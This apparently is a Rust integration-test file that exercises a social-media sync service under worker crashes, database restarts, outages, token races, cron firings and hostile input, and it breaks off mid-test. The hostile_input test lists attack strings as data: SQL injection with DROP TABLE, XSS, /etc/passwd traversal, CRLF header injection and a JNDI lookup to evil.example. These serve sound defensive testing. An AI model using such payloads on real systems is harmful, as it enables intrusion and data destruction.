//! Faults and abuse, each scenario a test on PostgreSQL against real `socialsync` processes and
//! the sandbox platform. Each prints one `RELIABILITY |` line with its figures;
//! `scripts/reliability` runs them and writes RELIABILITY.md from those lines.
//!
//! Sizes and durations can be raised by hand (the defaults are what CI runs):
//! `RELIABILITY_ACCOUNTS` (crashes, 2000), `RELIABILITY_KILL_EVERY_MS` (3000),
//! `RELIABILITY_DB_DOWN_SECS` (5), `RELIABILITY_OUTAGE_SECS` (8).

mod support;

use std::{
    collections::{BTreeMap, HashMap},
    time::{Duration, Instant},
};

use jobs::{
    AccountId, Secret, Timestamp,
    clients::PlatformClient,
    refresh,
    store::{NewJob, Pool},
    sync::{self, SyncReason},
    vault::Aad,
};
use serde_json::{Value, json};
use support::{
    Proc,
    fleet::{Fleet, connected_accounts_with, explain_stall, take_turn},
};
use testkit::{
    Backend, TestDb, eventually,
    cluster::Cluster,
    platform::{SandboxServer, param},
    scan::find_plaintext,
};

/// A schedule that never fires during a test (1 January, midnight).
const NEVER: &str = "0 0 1 1 *";

fn setting(name: &str, default: u64) -> u64 {
    std::env::var(name).ok().and_then(|v| v.parse().ok()).unwrap_or(default)
}

/// The scenario's figures, one line that `scripts/reliability` collects (with the test's name,
/// which it matches to the test's verdict).
fn report(test: &str, scenario: &str, figures: &str) {
    println!("RELIABILITY | {test} | {scenario} | {figures}");
}

fn pg(db: &TestDb) -> &sqlx::PgPool {
    let Pool::Postgres(p) = db.store.pool() else { unreachable!("reliability tests run on PostgreSQL") };
    p
}

async fn count(db: &TestDb, sql: &str) -> i64 {
    sqlx::query_scalar(sqlx::AssertSqlSafe(sql.to_owned())).fetch_one(pg(db)).await.unwrap()
}

/// Sync jobs not yet at their end (a job a dead worker held must be run again and end).
const SYNC_LEFT: &str = "SELECT COUNT(*) FROM apalis.jobs WHERE job_type = 'sync' AND status <> 'Done'";

/// Accounts still active that have not been synced, or not refreshed when `refreshed` is asked.
async fn unfinished(db: &TestDb, refreshed: bool) -> i64 {
    let also = if refreshed { " OR last_refreshed_at IS NULL" } else { "" };
    count(db, &format!("SELECT COUNT(*) FROM social_accounts WHERE status = 'active' AND (last_synced_at IS NULL{also})")).await
}

/// Every code, token and client secret the sandbox issued.
async fn issued_secrets(sb: &SandboxServer) -> Vec<String> {
    let s = sb.admin_get("secrets").await;
    ["codes", "tokens", "client_secrets"]
        .iter()
        .flat_map(|k| s[k].as_array().unwrap().iter().map(|v| v.as_str().unwrap().to_owned()).collect::<Vec<_>>())
        .collect()
}

/// Scans process logs, every table (the queue's job payloads too) and collected responses for
/// `secrets`; returns how many were scanned for, and panics naming where any was found.
async fn assert_no_plaintext(db: &TestDb, secrets: &[String], texts: &[(String, String)]) -> usize {
    assert!(!secrets.is_empty());
    let mut found: Vec<String> = find_plaintext(&db.store, secrets).await.into_iter().map(|(table, _)| format!("table {table}")).collect();
    for (what, text) in texts {
        if secrets.iter().any(|s| text.contains(s.as_str())) {
            found.push(what.clone());
        }
    }
    assert!(found.is_empty(), "a secret in plaintext in: {found:?}");
    secrets.len()
}

fn logs(procs: &[&Proc], name: &str) -> Vec<(String, String)> {
    procs.iter().enumerate().map(|(i, p)| (format!("{name} {i} log"), p.output())).collect()
}

// 1 ─────────────────────────────────────────────────────────────────────────────────────────────

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn crashes() {
    let _turn = take_turn();
    let n = setting("RELIABILITY_ACCOUNTS", 2000) as usize;
    let kill_every = Duration::from_millis(setting("RELIABILITY_KILL_EVERY_MS", 3000));
    let db = TestDb::new(Backend::Postgres).await;
    // Strict rotation (the sandbox's default): a refresh token spent twice is dead. TikTok's
    // 600 calls a minute per endpoint would make this a test of its quota: lifted.
    let sb = SandboxServer::start().await;
    sb.settings(json!({ "tiktok_requests_per_minute": 1_000_000 })).await;
    let fleet = Fleet::new(
        &db.url,
        &sb,
        &[("SYNC_CONCURRENCY", "16"), ("REFRESH_CONCURRENCY", "16"), ("PACING_TIKTOK_MS", "10"), ("CRON_REFRESH", NEVER), ("CRON_SYNC", NEVER)],
    );
    let accounts = connected_accounts_with(&db.store, &sb, &fleet.vault, n, 1).await;
    let now = Timestamp::now();
    let jobs: Vec<NewJob> = accounts.iter().flat_map(|(id, _)| [refresh::job(*id, now, now), sync::job(*id, SyncReason::Manual, now)]).collect();
    for chunk in jobs.chunks(1000) {
        db.store.enqueue_many(chunk).await.unwrap();
    }

    let started = Instant::now();
    let mut workers: Vec<Proc> = (0..3).map(|_| fleet.worker()).collect();
    let mut killed: Vec<Proc> = vec![];
    let mut last_kill = Instant::now();
    // Done when every account is synced and refreshed (or knowingly needs reconnecting) and no
    // sync job is left: one a killed worker held must still be run again and end.
    while unfinished(&db, true).await > 0 || count(&db, SYNC_LEFT).await > 0 {
        if started.elapsed() > Duration::from_secs(600) {
            explain_stall(&db, &workers).await;
            panic!("{} accounts unfinished after 10 minutes", unfinished(&db, true).await);
        }
        if last_kill.elapsed() >= kill_every {
            // One of the three, in turn, SIGKILLed mid-work and started again.
            let k = killed.len() % 3;
            workers[k].signal("KILL");
            workers[k].wait_exit(Duration::from_secs(10));
            let replacement = fleet.worker();
            killed.push(std::mem::replace(&mut workers[k], replacement));
            last_kill = Instant::now();
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    let took = started.elapsed();

    // What the platform saw: refresh calls per account.
    let counters = sb.admin_get("counters").await;
    let calls = |puid: &str| counters[format!("tiktok:oauth/refresh:{puid}")].as_u64().unwrap_or(0);
    let interrupted: HashMap<i64, i64> = sqlx::query_as::<_, (i64, i64)>(
        "SELECT account_id, COUNT(*) FROM job_runs WHERE queue = 'refresh' AND finished_at IS NULL AND account_id IS NOT NULL GROUP BY account_id",
    )
    .fetch_all(pg(&db))
    .await
    .unwrap()
    .into_iter()
    .collect();
    let (mut twice, mut unexplained) = (0, vec![]);
    for (id, puid) in &accounts {
        let c = calls(puid);
        assert!(c >= 1, "account {id} was never refreshed");
        if c > 1 {
            twice += 1;
            // A second call is only possible when a SIGKILL ended the first attempt after the
            // platform answered and before the new tokens were committed: they died with it.
            if !interrupted.contains_key(&id.0) {
                unexplained.push(*id);
            }
        }
    }
    let reauth = count(&db, "SELECT COUNT(*) FROM social_accounts WHERE status <> 'active'").await;
    let synced = count(&db, "SELECT COUNT(*) FROM social_accounts WHERE status = 'active' AND last_synced_at IS NOT NULL").await;
    let runs_cut = count(&db, "SELECT COUNT(*) FROM job_runs WHERE finished_at IS NULL").await;
    let sync_jobs = db.store.queue_counts("sync").await.unwrap();
    let secrets = issued_secrets(&sb).await;
    let procs: Vec<&Proc> = workers.iter().chain(killed.iter()).collect();
    let scanned = assert_no_plaintext(&db, &secrets, &logs(&procs, "worker")).await;
    report(
        "crashes",
        "1. SIGKILL one of 3 workers every few seconds during a sync + refresh run",
        &format!(
            "{n} accounts, {} SIGKILLs (every {} ms), {runs_cut} running jobs cut off; 0 jobs lost ({synced} synced, {reauth} need reconnecting); \
             refresh calls: {} accounts 1, {twice} accounts 2 — each after a SIGKILL between the platform's answer and the commit; \
             {scanned} issued secrets, none in logs or tables; {:.1} s",
            killed.len(),
            kill_every.as_millis(),
            n - twice,
            took.as_secs_f64()
        ),
    );
    assert!(killed.len() >= 2, "the run outlasted at least two kills ({} s)", took.as_secs());
    assert!(unexplained.is_empty(), "accounts refreshed twice without a kill to explain it: {unexplained:?}");
    assert!(reauth <= twice as i64, "only an account whose rotated token died with a killed worker may need reconnecting");
    assert_eq!(synced + reauth, n as i64, "every account synced, or knowingly needs reconnecting");
    assert_eq!(sync_jobs, vec![("Done".to_string(), n as i64)], "every sync job ran to its end");
}

// 2 ─────────────────────────────────────────────────────────────────────────────────────────────

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn database_restart() {
    let _turn = take_turn();
    let down_for = Duration::from_secs(setting("RELIABILITY_DB_DOWN_SECS", 5));
    // A cluster of this test's own: stopping the shared server would fail every other test.
    let cluster = Cluster::start();
    let db = TestDb::postgres_on(&cluster.url).await;
    let sb = SandboxServer::start().await;
    let jwt_secret = hex(32);
    let fleet = Fleet::new(
        &db.url,
        &sb,
        &[("PACING_TIKTOK_MS", "20"), ("SYNC_CONCURRENCY", "8"), ("DATABASE_TIMEOUT_SECS", "2"), ("CRON_REFRESH", NEVER), ("CRON_SYNC", NEVER)],
    );
    let n = 300;
    let accounts = connected_accounts_with(&db.store, &sb, &fleet.vault, n, 1).await;
    let (mut api, url) = fleet.api(&[("JWT_SECRET", &jwt_secret)]);
    let token = api::auth::Jwt::new(&Secret::from(jwt_secret.as_str())).issue("user0", 3600);
    let mut workers = [fleet.worker(), fleet.worker()];
    let jobs: Vec<NewJob> = accounts.iter().map(|(id, _)| sync::job(*id, SyncReason::Manual, Timestamp::now())).collect();
    db.store.enqueue_many(&jobs).await.unwrap();
    eventually(Duration::from_secs(60), "a quarter of the accounts synced", || async { unfinished(&db, false).await <= (n * 3 / 4) as i64 }).await;

    let left_at_stop = unfinished(&db, false).await;
    let stopped = Instant::now();
    cluster.stop();
    let http = reqwest::Client::new();
    let mut answers: BTreeMap<String, usize> = BTreeMap::new();
    while stopped.elapsed() < down_for {
        // The frontend keeps calling: a read, and a sync request.
        for req in [
            http.get(format!("{url}/api/v1/social-media/accounts")).bearer_auth(&token),
            http.post(format!("{url}/api/v1/social-media/accounts/{}/sync", accounts[0].0)).bearer_auth(&token),
        ] {
            let resp = req.send().await.unwrap();
            let status = resp.status().as_u16();
            let body: Value = resp.json().await.unwrap_or(Value::Null);
            *answers.entry(format!("{status} {}", body["error"]["code"].as_str().unwrap_or("(no JSON error)"))).or_default() += 1;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    let down = stopped.elapsed();
    cluster.start_again();
    let restarted = Instant::now();
    eventually(Duration::from_secs(60), "the API answers again", || async {
        http.get(format!("{url}/api/v1/social-media/accounts")).bearer_auth(&token).send().await.unwrap().status() == 200
    })
    .await;
    let api_back = restarted.elapsed();
    let deadline = Instant::now() + Duration::from_secs(120);
    while unfinished(&db, false).await > 0 || count(&db, SYNC_LEFT).await > 0 {
        if Instant::now() > deadline {
            explain_stall(&db, &workers).await;
            panic!("not every sync done after the restart");
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    let drained = restarted.elapsed();
    let alive = workers.iter_mut().map(|w| usize::from(w.running())).sum::<usize>() + usize::from(api.running());
    // A queue worker that lost the database mid-poll is restarted under a new name; the jobs
    // its old incarnation held are rescued as a dead worker's would be.
    let restarts: usize = workers.iter().map(|w| w.output().matches("queue worker failed; restarting it").count()).sum();
    let sync_jobs = db.store.queue_counts("sync").await.unwrap();
    let summary: Vec<String> = answers.iter().map(|(k, v)| format!("{v}× {k}")).collect();
    report(
        "database_restart",
        "2. PostgreSQL stopped mid-run, then started",
        &format!(
            "{n} syncs queued, {left_at_stop} left when PostgreSQL stopped for {:.1} s; API meanwhile: {}; API answering {:.1} s and every sync done {:.1} s after the restart; \
             {alive} of 3 processes still the original ones ({restarts} queue workers restarted inside them); jobs: {sync_jobs:?}",
            down.as_secs_f64(),
            summary.join(", "),
            api_back.as_secs_f64(),
            drained.as_secs_f64()
        ),
    );
    assert!(left_at_stop > 0, "the stop came mid-run");
    assert!(answers.keys().all(|k| k == "503 DATABASE_UNAVAILABLE"), "while the database was down: {answers:?}");
    assert_eq!(alive, 3, "the workers and the API reconnected by themselves");
    assert_eq!(sync_jobs, vec![("Done".to_string(), n as i64)], "no job lost");
}

fn hex(bytes: usize) -> String {
    (0..bytes).map(|_| format!("{:02x}", jobs::vault::random_bytes::<1>()[0])).collect()
}

// 3 ─────────────────────────────────────────────────────────────────────────────────────────────

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn platform_outage() {
    let _turn = take_turn();
    let outage = Duration::from_secs(setting("RELIABILITY_OUTAGE_SECS", 8));
    let db = TestDb::new(Backend::Postgres).await;
    // The platform in a process of its own: the arrival times it logs are the pace measured.
    let dir = tempfile::tempdir().unwrap();
    let mut platform = Proc::spawn(dir.path(), &["sandbox", "--port", "0"], &[]);
    let line = platform.wait_for_line(Duration::from_secs(60), |l| l.contains("sandbox platform on http://"));
    let sb = SandboxServer::remote(line.split("on ").nth(1).unwrap().split_whitespace().next().unwrap());
    let spacing = 100i64;
    let fleet = Fleet::new(
        &db.url,
        &sb,
        &[("PACING_TIKTOK_MS", "100"), ("SYNC_CONCURRENCY", "8"), ("WORKER_POLL_MS", "500"), ("RETRY_CAP_SECS", "4"), ("CRON_REFRESH", NEVER), ("CRON_SYNC", NEVER)],
    );
    let n = 40;
    let accounts = connected_accounts_with(&db.store, &sb, &fleet.vault, n, 1).await;
    let _workers = [fleet.worker(), fleet.worker(), fleet.worker()];
    let log_start = last_seq(&sb).await;
    sb.faults(json!([{ "path_prefix": "tiktok/", "error_rate": 1.0 }])).await;
    let now = Timestamp::now();
    let jobs: Vec<NewJob> = accounts.iter().flat_map(|(id, _)| [refresh::job(*id, now, now), sync::job(*id, SyncReason::Manual, now)]).collect();
    db.store.enqueue_many(&jobs).await.unwrap();
    // The outage lasts its configured time: waiting it out is the scenario itself.
    tokio::time::sleep(outage).await;
    let marked_during = count(&db, "SELECT COUNT(*) FROM social_accounts WHERE status <> 'active'").await;
    let failed_calls = sb.admin_get(&format!("requests?after={log_start}&limit=100000")).await.as_array().unwrap().iter().filter(|e| e["status"].as_u64() >= Some(500)).count();
    let recovered_seq = last_seq(&sb).await;
    sb.faults(json!([])).await;
    let recovered = Instant::now();
    eventually(Duration::from_secs(120), "every account synced and refreshed", || async { unfinished(&db, true).await == 0 }).await;
    let drained = recovered.elapsed();
    let marked = count(&db, "SELECT COUNT(*) FROM social_accounts WHERE status <> 'active'").await;

    // Sync starts (profile reads) as the platform saw them. Those the outage failed never
    // reached a handler; the ones after the recovery are the drain.
    let log = sb.admin_get(&format!("requests?after={recovered_seq}&limit=100000")).await;
    let mut after: Vec<i64> = log.as_array().unwrap().iter().filter(|e| e["endpoint"] == "user/info").map(|e| e["real_ms"].as_i64().unwrap()).collect();
    after.sort();
    let violations = after.windows(2).filter(|w| w[1] - w[0] < spacing).count();
    let length = after.last().unwrap() - after.first().unwrap();
    let share = (after.len() as i64 - 1) * spacing * 100 / length.max(1);
    report(
        "platform_outage",
        "3. Platform outage (every call 5xx), then recovery",
        &format!(
            "{n} accounts, outage {} s with {failed_calls} failed calls; accounts marked for reconnection: {marked_during} during, {marked} after; \
             backlog of {} syncs drained in {:.1} s at {share} % of the {spacing} ms pace, {violations} starts closer than the pace",
            outage.as_secs(),
            after.len(),
            drained.as_secs_f64()
        ),
    );
    assert_eq!((marked_during, marked), (0, 0), "a transient outage marks no account");
    assert!(failed_calls >= n, "the outage was felt");
    assert_eq!(violations, 0, "no two sync starts closer than {spacing} ms");
}

async fn last_seq(sb: &SandboxServer) -> u64 {
    sb.admin_get("requests?limit=100000").await.as_array().unwrap().last().map_or(0, |e| e["seq"].as_u64().unwrap())
}

// 4 ─────────────────────────────────────────────────────────────────────────────────────────────

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn rotation_race() {
    let _turn = take_turn();
    let db = TestDb::new(Backend::Postgres).await;
    let sb = SandboxServer::start().await;
    // A slow token endpoint, so the twenty overlap.
    sb.faults(json!([{ "path_prefix": "tiktok/open/v2/oauth/token/", "latency_ms": 300 }])).await;
    let fleet = Fleet::new(&db.url, &sb, &[("REFRESH_CONCURRENCY", "8"), ("CRON_REFRESH", NEVER), ("CRON_SYNC", NEVER)]);
    let accounts = connected_accounts_with(&db.store, &sb, &fleet.vault, 1, 1).await;
    let (id, puid) = accounts[0].clone();
    let workers = [fleet.worker(), fleet.worker(), fleet.worker()];
    // Twenty refresh requests at once, as if each had slipped past the queue's dedup: only the
    // account's lease stands between them and a spent refresh token.
    let now = Timestamp::now();
    let racers: Vec<NewJob> = (0..20).map(|_| NewJob { dedup_key: None, ..refresh::job(id, now, now) }).collect();
    db.store.enqueue_many(&racers).await.unwrap();
    let deadline = Instant::now() + Duration::from_secs(60);
    while count(&db, "SELECT COUNT(*) FROM apalis.jobs WHERE job_type = 'refresh' AND status = 'Done'").await < 20 {
        if Instant::now() > deadline {
            explain_stall(&db, &workers).await;
            panic!("not all twenty refresh jobs done");
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    let calls = sb.counter("tiktok", "oauth/refresh", &puid).await;
    let runners = count(&db, "SELECT COUNT(DISTINCT worker) FROM job_runs WHERE queue = 'refresh'").await;

    // The stored tokens are the live ones: the access token reads the profile, the refresh
    // token renews.
    sb.faults(json!([])).await;
    let a = db.store.account(id).await.unwrap().unwrap();
    let aad = |f| Aad::account(a.platform, &a.platform_user_id, f);
    let access = fleet.vault.open(&aad("access_token"), a.access_token.as_ref().unwrap()).unwrap();
    let refresh_token = fleet.vault.open(&aad("refresh_token"), a.refresh_token.as_ref().unwrap()).unwrap();
    let clients = jobs::clients::Clients::new(&sb.platforms(Duration::from_secs(10)));
    let profile = clients.tiktok.profile(&access, &a.scopes).await;
    let renewed = clients.tiktok.refresh(&access, Some(&refresh_token)).await;
    report(
        "rotation_race",
        "4. 20 concurrent refreshes of one account across 3 workers",
        &format!(
            "{calls} platform refresh call; jobs run by {runners} processes; stored access token reads the profile: {}; stored refresh token renews: {}",
            profile.is_ok(),
            renewed.is_ok()
        ),
    );
    assert_eq!(calls, 1, "exactly one platform refresh call");
    assert!(runners >= 2, "the twenty were spread over several workers");
    assert_eq!(a.status, jobs::AccountStatus::Active);
    profile.unwrap();
    renewed.unwrap();
}

// 5 ─────────────────────────────────────────────────────────────────────────────────────────────

/// `hour`:00 UTC today, or yesterday if that is still ahead.
fn latest(hour: u32) -> chrono::DateTime<chrono::Utc> {
    let now = chrono::Utc::now();
    let today = now.date_naive().and_hms_opt(hour, 0, 0).unwrap().and_utc();
    if today <= now { today } else { today - chrono::Duration::days(1) }
}

/// Three workers whose clocks read `start` now, on a database of their own, with the
/// production schedules (02:00 refresh, 03:00 sync, UTC).
async fn cron_fleet(sb: &SandboxServer, start: chrono::DateTime<chrono::Utc>) -> (TestDb, Fleet, Vec<Proc>) {
    let db = TestDb::new(Backend::Postgres).await;
    let offset = (start - chrono::Utc::now()).num_seconds().to_string();
    let fleet = Fleet::new(
        &db.url,
        sb,
        &[("CLOCK_OFFSET_SECS", &offset), ("CRON_REFRESH", "0 2 * * *"), ("CRON_SYNC", "0 3 * * *"), ("RUST_LOG", "info,worker::cron=debug")],
    );
    let workers = (0..3).map(|_| fleet.worker()).collect();
    (db, fleet, workers)
}

/// Waits until each worker has either run (to its end) or skipped the firing of `schedule` at `at`; returns
/// how many ran it by their logs, and how many `cron_runs` rows it has.
async fn firing_outcome(db: &TestDb, workers: &mut [Proc], schedule: &str, at: chrono::DateTime<chrono::Utc>) -> (usize, usize) {
    let fire_at = Timestamp::from(at).to_string();
    let mine = |l: &str| l.contains(&format!("schedule=\"{schedule}\"")) || l.contains(&format!("schedule={schedule}"));
    let mut ran = 0;
    for w in workers.iter_mut() {
        let l = w.wait_for_line(Duration::from_secs(90), |l| mine(l) && l.contains(&fire_at) && (l.contains("sweep finished") || l.contains("claimed by another process")));
        ran += usize::from(l.contains("sweep finished"));
    }
    let rows = db.store.cron_runs(schedule, 1000).await.unwrap().into_iter().filter(|r| r.fire_at == Timestamp::from(at) && r.finished_at.is_some()).count();
    (ran, rows)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn cron_firings() {
    let _turn = take_turn();
    let sb = SandboxServer::start().await;
    let lead = chrono::Duration::seconds(15);
    let (two, three) = (latest(2), latest(3));
    // Two fleets whose clocks cross 02:00 and 03:00 in `lead`, and one started 30 s after a
    // 02:00 it slept through (every worker down).
    let (db_a, _fa, mut a) = cron_fleet(&sb, two - lead).await;
    let (db_b, _fb, mut b) = cron_fleet(&sb, three - lead).await;
    let (db_c, _fc, mut c) = cron_fleet(&sb, two + chrono::Duration::seconds(30)).await;

    let at_two = firing_outcome(&db_a, &mut a, jobs::sweeps::REFRESH_SWEEP, two).await;
    let at_three = firing_outcome(&db_b, &mut b, jobs::sweeps::SYNC_SWEEP, three).await;
    let caught_up = firing_outcome(&db_c, &mut c, jobs::sweeps::REFRESH_SWEEP, two).await;
    let catch_up_logged = c.iter().map(|w| w.output().lines().filter(|l| l.contains("sweep started") && l.contains("catch_up=true") && l.contains(&Timestamp::from(two).to_string())).count()).sum::<usize>();
    report(
        "cron_firings",
        "5. Cron: 3 workers as the clock crosses 02:00 and 03:00; every worker down across 02:00",
        &format!(
            "02:00 refresh sweep run by {} of 3 workers ({} recorded); 03:00 sync sweep run by {} of 3 ({} recorded); \
             started 30 s after a missed 02:00: caught up by {} of 3 ({} recorded)",
            at_two.0, at_two.1, at_three.0, at_three.1, caught_up.0, caught_up.1
        ),
    );
    assert_eq!(at_two, (1, 1), "the 02:00 firing ran once");
    assert_eq!(at_three, (1, 1), "the 03:00 firing ran once");
    assert_eq!(caught_up, (1, 1), "the missed 02:00 firing was caught up once");
    assert_eq!(catch_up_logged, 1, "and it was a catch-up");
}

// 6 ─────────────────────────────────────────────────────────────────────────────────────────────

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn hostile_input() {
    let db = TestDb::new(Backend::Postgres).await;
    let sb = SandboxServer::start().await;
    let jwt_secret = hex(32);
    let fleet = Fleet::new(&db.url, &sb, &[]);
    let limit = 100;
    let (_api, url) = fleet.api(&[
        ("JWT_SECRET", &jwt_secret),
        ("TRUSTED_PROXIES", "127.0.0.1"),
        ("RATE_LIMITS", &format!("general={limit}/10m")),
        ("MAX_BODY_BYTES", "65536"),
    ]);
    let token = api::auth::Jwt::new(&Secret::from(jwt_secret.as_str())).issue("user-1", 3600);
    let http = reqwest::Client::builder().redirect(reqwest::redirect::Policy::none()).build().unwrap();
    let mut answered: BTreeMap<u16, usize> = BTreeMap::new();
    let check = |answered: &mut BTreeMap<u16, usize>, what: &str, status: u16, body: &Value, want: u16, code: &str| {
        *answered.entry(status).or_default() += 1;
        assert_eq!((status, body["error"]["code"].as_str()), (want, Some(code)), "{what}: {body}");
    };
    let call = |req: reqwest::RequestBuilder| async move {
        let resp = req.header("x-forwarded-for", "198.51.100.1").send().await.unwrap();
        let status = resp.status().as_u16();
        (status, resp.json::<Value>().await.unwrap_or(Value::Null))
    };
    let state_for = |platform: &'static str| {
        let (http, url, token) = (http.clone(), url.clone(), token.clone());
        async move {
            let resp = http.post(format!("{url}/api/v1/social-media/{platform}/connect")).bearer_auth(token).header("x-forwarded-for", "198.51.100.1").send().await.unwrap();
            let body: Value = resp.json().await.unwrap();
            param(&url::Url::parse(body["authorization_url"].as_str().unwrap()).unwrap(), "state").unwrap()
        }
    };

    // Crafted callbacks.
    let cb = |platform: &str, query: &str| http.get(format!("{url}/api/v1/social-media/{platform}/callback?{query}"));
    let state = state_for("tiktok").await;
    let q = |code: &str, state: &str| format!("code={}&state={}", urlencode(code), urlencode(state));
    let (s, b) = call(cb("tiktok", "")).await;
    check(&mut answered, "no code, no state", s, &b, 400, "OAUTH_STATE_INVALID");
    let (s, b) = call(cb("tiktok", &format!("code=abc&state={}", "s".repeat(5000)))).await;
    check(&mut answered, "oversized state", s, &b, 400, "OAUTH_STATE_INVALID");
    let (s, b) = call(cb("tiktok", &q(&"c".repeat(5000), &state))).await;
    check(&mut answered, "oversized code", s, &b, 400, "INVALID_REQUEST");
    let (s, b) = call(cb("instagram", &q("abc", &state))).await;
    check(&mut answered, "another platform's state", s, &b, 400, "OAUTH_STATE_INVALID");
    let injections = [
        "' OR '1'='1",
        "'; DROP TABLE social_accounts; --",
        "<script>alert(1)</script>",
        "../../../../etc/passwd",
        "abc\r\nSet-Cookie: pwned=1",
        "abc\u{0}def",
        "${jndi:ldap://evil.example/x}",
        "{{7*7}}",
        "%00%0a",
        "𝓬𝓸𝓭𝓮",
    ];
    for code in injections {
        let (s, b) = call(cb("tiktok", &q(code, &state))).await;
        check(&mut answered, &format!("code {code:?}"), s, &b, 400, "INVALID_REQUEST");
    }
    // None of those spent the state; the genuine callback takes it, and a replay is refused.
    let (s, _) = call(cb("tiktok", &q("genuine-code_1", &state))).await;
    assert_eq!(s, 303, "the state survived the crafted callbacks");
    let (s, b) = call(cb("tiktok", &q("genuine-code_1", &state))).await;
    check(&mut answered, "replayed state", s, &b, 400, "OAUTH_STATE_INVALID");
    let crafted = answered.values().sum::<usize>();

    // Oversized bodies.
    let big = "x".repeat(1 << 20);
    let (s, b) = call(http.post(format!("{url}/api/v1/social-media/accounts/1/sync")).bearer_auth(&token).header("content-type", "application/json").body(big.clone())).await;
    check(&mut answered, "1 MiB body", s, &b, 413, "PAYLOAD_TOO_LARGE");
    let (s, b) = call(http.post(format!("{url}/api/v1/social-media/tiktok/connect")).bearer_auth(&token).header("content-type", "application/json").body(big)).await;
    check(&mut answered, "1 MiB body on connect", s, &b, 413, "PAYLOAD_TOO_LARGE");

    // 1 000 fast requests from one address, 16 at a time, while another client keeps calling.
    let flood = |ip: &'static str| {
        let (http, url, token) = (http.clone(), url.clone(), token.clone());
        async move {
            let resp = http.get(format!("{url}/api/v1/social-media/accounts")).bearer_auth(token).header("x-forwarded-for", ip).send().await.unwrap();
            let status = resp.status().as_u16();
            let retry_after = resp.headers().contains_key("retry-after");
            let body: Value = resp.json().await.unwrap_or(Value::Null);
            (status, retry_after, body["error"]["code"].as_str().map(str::to_owned))
        }
    };
    let started = Instant::now();
    let gate = std::sync::Arc::new(tokio::sync::Semaphore::new(16));
    let mut tasks = tokio::task::JoinSet::new();
    for i in 0..1000 {
        let (gate, f) = (gate.clone(), flood("203.0.113.7"));
        tasks.spawn(async move {
            let _p = gate.acquire().await.unwrap();
            (true, i, f.await)
        });
        if i % 20 == 0 {
            tasks.spawn({
                let f = flood("192.0.2.44");
                async move { (false, i, f.await) }
            });
        }
    }
    let results = tasks.join_all().await;
    let took = started.elapsed();
    let flooder: Vec<_> = results.iter().filter(|r| r.0).map(|r| &r.2).collect();
    let other: Vec<_> = results.iter().filter(|r| !r.0).map(|r| &r.2).collect();
    let served = flooder.iter().filter(|r| r.0 == 200).count();
    let limited = flooder.iter().filter(|r| r.0 == 429 && r.1 && r.2.as_deref() == Some("RATE_LIMIT_EXCEEDED")).count();
    let other_ok = other.iter().filter(|r| r.0 == 200).count();
    let server_errors = results.iter().filter(|r| r.2.0 >= 500).count() + answered.keys().filter(|s| **s >= 500).count();
    report(
        "hostile_input",
        "6. Hostile input: crafted callbacks, oversized bodies, a flood from one address",
        &format!(
            "{crafted} crafted callbacks (missing, oversized, replayed, wrong-platform state; {} injection strings in the code) → 4xx JSON; 1 MiB bodies → 413 JSON; \
             1000 requests from one address in {:.1} s: {served} served, {limited} limited (429 JSON + Retry-After) at general={limit}/10m; \
             the other client meanwhile: {other_ok} of {} served; {server_errors} 5xx. (schemathesis: scripts/schemathesis, in CI)",
            injections.len(),
            took.as_secs_f64(),
            other.len()
        ),
    );
    assert_eq!(served, limit, "the flooding address gets its budget, to the request");
    assert_eq!(served + limited, 1000, "every other request is limited with a JSON 429 and Retry-After");
    assert_eq!(other_ok, other.len(), "the other client is still served");
    assert_eq!(server_errors, 0);
}

fn urlencode(s: &str) -> String {
    url::form_urlencoded::byte_serialize(s.as_bytes()).collect()
}

// 7 ─────────────────────────────────────────────────────────────────────────────────────────────

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn secret_hygiene() {
    let _turn = take_turn();
    let db = TestDb::new(Backend::Postgres).await;
    let sb = SandboxServer::start().await;
    let (jwt_secret, cron_secret, ops_password) = (hex(32), hex(32), format!("ops-{}", hex(8)));
    let port = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
    let bind = format!("127.0.0.1:{port}");
    // Workers exchange codes with the redirect URI the API announced: they share BIND_ADDR.
    let fleet = Fleet::new(&db.url, &sb, &[("BIND_ADDR", &bind), ("CRON_REFRESH", NEVER), ("CRON_SYNC", NEVER), ("PACING_INSTAGRAM_MS", "20")]);
    let debug = "debug,sqlx=info,hyper=info,hyper_util=info,reqwest=info,h2=info,rustls=info,poem=info";
    let (api, url) = fleet.api(&[("JWT_SECRET", &jwt_secret), ("CRON_JOB_SECRET", &cron_secret), ("OPS_PASSWORD", &ops_password), ("RUST_LOG", debug)]);
    let worker_env: Vec<(String, String)> = fleet.env.iter().cloned().chain([("RUST_LOG".to_string(), debug.to_string())]).collect();
    let spawn_worker = || {
        let env: Vec<(&str, &str)> = worker_env.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
        let mut p = Proc::spawn(fleet.dir.path(), &["worker", "--no-migrate"], &env);
        p.wait_for_line(Duration::from_secs(60), |l| l.contains("worker started"));
        p
    };
    let mut workers = [spawn_worker(), spawn_worker()];
    let token = api::auth::Jwt::new(&Secret::from(jwt_secret.as_str())).issue("creator-1", 3600);
    let http = reqwest::Client::builder().redirect(reqwest::redirect::Policy::none()).build().unwrap();
    let mut seen: Vec<(String, String)> = vec![];
    macro_rules! keep {
        ($what:expr, $resp:expr) => {{
            let resp = $resp.send().await.unwrap();
            let status = resp.status().as_u16();
            let text = resp.text().await.unwrap();
            seen.push((format!("response of {}", $what), text.clone()));
            (status, serde_json::from_str::<Value>(&text).unwrap_or(Value::Null))
        }};
    }

    // Connect every demo account through the API, as a user's browser would.
    let mut states = vec![];
    for (platform, username) in [("instagram", "acme_studio"), ("instagram", "sunny.bakes"), ("tiktok", "dance.daily"), ("tiktok", "quickrecipes"), ("tiktok", "van.life.lena")] {
        let (_, started) = keep!("connect", http.post(format!("{url}/api/v1/social-media/{platform}/connect")).bearer_auth(&token));
        let authorize = started["authorization_url"].as_str().unwrap();
